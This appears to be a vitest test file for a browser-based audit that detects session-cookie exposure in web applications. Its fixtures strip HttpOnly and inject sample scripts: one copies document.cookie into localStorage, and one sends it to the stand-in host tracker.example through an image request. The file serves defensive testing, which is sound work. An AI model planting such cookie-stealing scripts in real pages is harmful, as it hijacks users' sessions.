import { describe, expect, test, vi } from 'vitest'
import { audit, findings, leaksIn, verdicts } from './support/audit.ts'
import { bearerApp } from './support/bearer-app.ts'
import { cookieApp } from './support/cookie-app.ts'
import type { App } from './support/web.ts'

vi.setConfig({ testTimeout: 60_000 })

/** The cookie application with HttpOnly taken off, or with a script that copies where it should not. */
function changed(change: (html: string) => string, cookies: (line: string) => string = (line) => line): App {
  const app = cookieApp()
  return async (ask) => {
    const reply = await app(ask)
    return {
      ...reply,
      ...(reply.html === undefined ? {} : { html: change(reply.html) }),
      ...(reply.cookies === undefined ? {} : { cookies: reply.cookies.map(cookies) }),
    }
  }
}

const same = (html: string) => html
const bare = (line: string) => line.replace('; HttpOnly', '')

describe('a real browser', () => {
  const judge = (app: App) => audit(app, ['browser-exposure'], { browser: true })

  test('a careful application is not accused, and its session in Chromium is ended', async () => {
    const report = await judge(cookieApp())
    expect(Object.values(verdicts(report))).toEqual(['pass', 'pass', 'pass'])
    expect(report.leftBehind).toEqual([])
  })

  test('a cookie that scripts read is found', async () => {
    expect(verdicts(await judge(changed(same, bare)))).toMatchObject({ 'browser-exposure/scripts': 'fail' })
  })

  test('a copy in storage is found, and masked in the report', async () => {
    const copies = (html: string) => `${html}<script>localStorage.copy = document.cookie</script>`
    const report = await judge(changed(copies, bare))
    expect(findings(report)[0]?.detail).toContain('localStorage copy')
    expect(leaksIn(report)).toEqual([])
  })

  test('a session that is sent to another site is found, and not sent', async () => {
    const sends = (html: string) =>
      `${html}<script>new Image().src = 'http://tracker.example/?' + document.cookie</script>`
    expect(verdicts(await judge(changed(sends, bare)))).toMatchObject({ 'browser-exposure/other sites': 'fail' })
  })

  test('an application without pages is not judged', async () => {
    expect(verdicts(await judge(bearerApp()))).toEqual({ 'browser-exposure/browser': 'cannot-judge' })
  })
})
